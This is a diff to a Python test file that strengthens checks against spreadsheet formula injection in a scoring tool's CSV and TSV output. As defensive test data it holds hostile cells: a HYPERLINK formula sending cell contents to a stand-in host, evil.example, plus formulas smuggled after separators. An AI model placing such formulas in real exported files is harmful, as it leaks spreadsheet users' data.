@@ -41,8 +41,11 @@ def cells_of_csv(path):
 
 
 def starts_a_formula(cell: str) -> bool:
-    """A text cell a spreadsheet would evaluate (a number such as -0.5 is a number, not a formula)."""
-    if cell[:1] not in FORMULA:
+    """A text cell a spreadsheet would evaluate (a number such as -0.5 is a number, not a formula), also once a
+    spreadsheet set to another separator splits it at a comma, a semicolon or a quote (OWASP: an attacker "could
+    use this to start a new cell and then have the dangerous character in the middle of the user input")."""
+    if cell[:1] not in FORMULA and not any(cell[at + 1:at + 2] in FORMULA for at, ch in enumerate(cell)
+                                           if ch in ',;"'):
         return False
     try:
         float(cell)
@@ -53,7 +56,8 @@ def starts_a_formula(cell: str) -> bool:
 
 # ------------------------------------------------------------------------------------------ spreadsheets ---
 
-HOSTILE_DOCS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted", "plain"]
+HOSTILE_DOCS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted", "plain",
+                'x;=HYPERLINK("http://evil.example/?"&A1)', "y,@SUM(A1:A9)", 'z"-2+3', "w;'=x"]
 
 
 def hostile_tir(tmp_path):
@@ -84,9 +88,9 @@ def test_pool_files_neutralise_formulas_and_judgements_read_the_ids_back(tmp_pat
 def test_a_spreadsheet_that_dropped_the_quote_on_saving_still_matches_the_pool(tmp_path):
     from runscore.campaign.safe_output import neutralise_cell, restore_cell
 
-    for text in HOSTILE_DOCS + ["", "'", "''x", "\t=x", '"=x"', "\u2028"]:
+    for text in HOSTILE_DOCS + ["", "'", "''x", "\t=x", '"=x"', "\u2028", "a,'=b", ";", ",=", "'\"=x"]:
         assert restore_cell(neutralise_cell(text)) == text
-        assert restore_cell(text) == text or text[:1] == "'"
+        assert restore_cell(text) == text or "'" in text     # a quote of the text itself is told by the mark
     out = str(tmp_path / "pool")
     assert main(["pool", "--task", "temporalia-tir", "--depth", "10", str(hostile_tir(tmp_path)), "-o", out]) == 0
     lines = open(os.path.join(out, "pool.tsv"), encoding="utf-8").read().split("\n")
@@ -106,7 +110,7 @@ def test_report_csv_files_neutralise_formulas(tmp_path):
     sample = open(os.path.join(ROOT, "starting_kit", "sample_submission", "temporalia-tir", "tir_sample"),
                   encoding="utf-8").read()
     runs = []
-    for name in ("=evil", "@other"):
+    for name in ("=evil", "@other", "x;=cmd"):
         path = tmp_path / ("tir_%s" % name)
         path.write_text(sample.replace("\tsample\t", "\t%s\t" % name).replace("sample_run", "%s_run" % name),
                         encoding="utf-8")
@@ -118,6 +122,7 @@ def test_report_csv_files_neutralise_formulas(tmp_path):
         cells = cells_of_csv(os.path.join(out, name))
         assert not [c for c in cells if starts_a_formula(c)], (name, cells)
     assert "'=evil_run1" in cells_of_csv(os.path.join(out, "means.csv"))
+    assert "x;'=cmd_run1" in cells_of_csv(os.path.join(out, "means.csv"))
 
 
 # ------------------------------------------------------------------------------------------ pages ---
